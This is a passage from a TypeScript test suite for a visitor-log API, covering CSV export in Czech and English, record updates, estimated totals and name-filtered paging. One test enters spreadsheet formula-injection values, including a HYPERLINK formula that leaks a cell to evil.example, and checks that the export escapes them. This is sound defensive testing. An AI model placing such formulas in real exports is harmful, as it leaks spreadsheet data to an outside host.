    expect(csvLines(byHeader.body)[0].startsWith('ID,Time,Direction')).toBe(true);
    const czechByDefault = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT');
    expect(csvLines(czechByDefault.body)[0].startsWith('ID;Čas;Směr')).toBe(true);
  });

  it('refuses an unknown language or list parameter of the export', async () => {
    const language = await ctx.call(guard, 'GET', '/api/visit/export?lang=de');
    expect(language.statusCode).toBe(400);
    expect(language.headers['x-error-code']).toBe('VALIDATION');
    const unknown = await ctx.call(guard, 'GET', '/api/visit/export?nonsense=1');
    expect(unknown.statusCode).toBe(400);
  });

  it('exports visitor texts that look like formulas as text (a leading apostrophe), in both languages', async () => {
    const siteId = await ctx.createSite('CSV formulas');
    const csvSite = await givenVisitSite(ctx, siteId);
    const clerk = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    const entry = await enter(
      ctx,
      clerk,
      visitor(csvSite, {
        firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        lastName: '+420 777 123 456',
        company: '@SUM(1+1)',
        note: '-2+3',
        parkingPlace: '=1+1',
      }),
    );
    expect(entry.statusCode).toBe(201);
    for (const [lang, separator, names] of [
      ['en', ',', ['Last name', 'Company', 'Note', 'Parking space']],
      ['cs', ';', ['Příjmení', 'Firma', 'Poznámka', 'Parkovací místo']],
    ] as const) {
      const response = await ctx.call(clerk, 'GET', `/api/visit/export?lang=${lang}`);
      expect(response.statusCode).toBe(200);
      const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
      const column = (name: string) => header.split(separator).indexOf(name);
      // The id is a number, written as it is.
      expect(row.startsWith(`${entry.json().id}${separator}`)).toBe(true);
      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
      const cells = row.replace(/"[^"]*(?:""[^"]*)*"/g, 'QUOTED').split(separator);
      expect(names.map((name) => cells[column(name)])).toEqual([
        "'+420 777 123 456",
        "'@SUM(1+1)",
        "'-2+3",
        "'=1+1",
      ]);
      // No cell of the export starts with a formula character.
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('updates the recorded details but not the movement', async () => {
    const [row] = (await ctx.call(guard, 'GET', '/api/visit?size=10')).json();
    const update = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, {
      version: row.version,
      note: 'Badge returned',
      equipment: [{ object: 'Camera' }],
    });
    expect(update.statusCode).toBe(200);
    expect(update.json()).toMatchObject({
      note: 'Badge returned',
      direction: 'IN',
      equipment: [{ object: 'Camera' }],
    });
    const stale = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, { version: row.version, note: 'x' });
    expect(stale.headers['x-error-code']).toBe('CONFLICT');
    const direction = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, {
      version: row.version + 1,
      direction: 'OUT',
    });
    expect(direction.statusCode).toBe(400);
  });
});

describe('totals over large lists', () => {
  it('counts exactly up to the limit and estimates beyond it, without changing the page', async () => {
    const siteId = await ctx.createSite('Large');
    const large = await givenVisitSite(ctx, siteId);
    const user = await ctx.givenUser({ roles: ['VISIT_VIEW'], sites: [siteId] });
    await ctx.db.execute(sql`
      insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
      select ${siteId}, now() - g * interval '1 minute', 'OUT', ${large.delivery}, ${large.gate}, 'A', 'B' || g
      from generate_series(1, 1100) g`);
    await ctx.db.execute(sql`
      insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
      select ${siteId}, now() - g * interval '1 minute', 'IN', ${large.meeting}, ${large.gate}, 'A', 'C' || g
      from generate_series(1, 30) g`);
    const all = await ctx.call(user, 'GET', '/api/visit?size=25');
    expect(all.json()).toHaveLength(25);
    expect(Number(all.headers['x-total-count'])).toBeGreaterThan(1000);
    const few = await ctx.call(user, 'GET', `/api/visit?purpose=${large.meeting}&size=10`);
    expect(few.headers['x-total-count']).toBe('30');
    expect(few.json()).toHaveLength(10);
  });

  it('keeps a total beyond the count limit (an estimate) for a while, an exact one until the next write', async () => {
    const siteId = await ctx.createSite('Huge');
    const huge = await givenVisitSite(ctx, siteId);
    const user = await ctx.givenUser({ roles: ['VISIT_VIEW'], sites: [siteId] });
    const insert = (count: number, direction: 'IN' | 'OUT') =>
      ctx.db.execute(sql`
        insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
        select ${siteId}, now() - g * interval '1 minute', ${direction}, ${huge.delivery}, ${huge.gate}, 'A', 'B'
        from generate_series(1, ${count}::int) g`);
    await insert(1_500, 'OUT');
    await ctx.db.execute(sql`analyze visit`);
    const first = Number((await ctx.call(user, 'GET', '/api/visit?size=10')).headers['x-total-count']);
    expect(first).toBeGreaterThan(1_000);
    await insert(3_000, 'OUT');
    await ctx.db.execute(sql`analyze visit`);
    const again = Number((await ctx.call(user, 'GET', '/api/visit?size=10')).headers['x-total-count']);
    expect(again).toBe(first);
    // Other filter values are estimated on their own; a small total stays exact and current.
    const fresh = Number(
      (await ctx.call(user, 'GET', '/api/visit?size=10&direction=OUT')).headers['x-total-count'],
    );
    expect(fresh).toBeGreaterThan(first);
    const entries = () => ctx.call(user, 'GET', '/api/visit?size=10&direction=IN');
    expect((await entries()).headers['x-total-count']).toBe('0');
    // An exact total is kept until the next write call: rows written by hand count once one comes.
    await insert(3, 'IN');
    expect((await entries()).headers['x-total-count']).toBe('0');
    await ctx.sessionsChanged();
    expect((await entries()).headers['x-total-count']).toBe('3');
    // A visitor entered through the API counts at once, in the list and in the overview.
    const overview = () => ctx.call(user, 'GET', '/api/visit/overview?size=10');
    const inArea = Number((await overview()).headers['x-total-count']);
    const reception = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    expect((await enter(ctx, reception, visitor(huge))).statusCode).toBe(201);
    expect((await entries()).headers['x-total-count']).toBe('4');
    expect(Number((await overview()).headers['x-total-count'])).toBe(inArea + 1);
  });
});

describe('a page filtered by a name (its ids found in the index first)', () => {
  let reader: TestUser;

  beforeAll(async () => {
    const siteId = await ctx.createSite('Name pages');
    const site = await givenVisitSite(ctx, siteId);
    reader = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    // 24 visits, two at each time (the id breaks the tie), names that the filters below match in part.
    await ctx.db.insert(visits).values(
      Array.from({ length: 24 }, (_, index) => ({
        siteId,
        movementTime: new Date(Date.UTC(2024, 0, 1 + Math.floor(index / 2))),
        direction: 'IN' as const,
        purposeId: site.delivery,
        gateId: site.gate,
        firstName: ['Adam', 'Bára', 'Cyril'][index % 3],
        lastName: index % 4 === 0 ? 'Dvořák' : `Novák ${index}`,
      })),
    );
  });

  const ids = async (query: string) => {
    const response = await ctx.call(reader, 'GET', `/api/visit?${query}`);
    expect(response.statusCode).toBe(200);
    return {
      ids: (response.json() as Array<{ id: number }>).map((row) => row.id),
      total: response.headers['x-total-count'],
    };
  };

  it('gives the pages of the whole list that match, in its order, by default and by another sort', async () => {
    for (const sort of ['', '&sort=firstName,asc', '&sort=movementTime,asc', '&sort=lastName,desc']) {
      const whole = (await ids(`size=100${sort}`)).ids;
      expect(whole.length).toBe(24);
      const rows = await ctx.db
        .select({ id: visits.id, firstName: visits.firstName, lastName: visits.lastName })
        .from(visits)
        .where(sql`${visits.id} in ${whole}`);
      const byId = new Map(rows.map((row) => [row.id, row]));
      for (const [filter, matches] of [
        ['lastName=dvoř', (row: { lastName: string | null }) => row.lastName === 'Dvořák'],
        ['firstName=A', (row: { firstName: string | null }) => /a/i.test(row.firstName ?? '')],
      ] as const) {
        const expected = whole.filter((id) => matches(byId.get(id)!));
        expect(expected.length).toBeGreaterThan(0);
        const first = await ids(`${filter}&size=10${sort}`);
        const second = await ids(`${filter}&size=10&page=2${sort}`);
        expect([...first.ids, ...second.ids]).toEqual(expected.slice(0, 20));
        expect(first.total).toBe(String(expected.length));
      }
    }
  });

  it('finds nothing past the last page nor for a name nobody has', async () => {
    expect((await ids('lastName=dvoř&size=10&page=2')).ids).toEqual([]);
    expect(await ids('lastName=Nobody')).toEqual({ ids: [], total: '0' });
  });
});
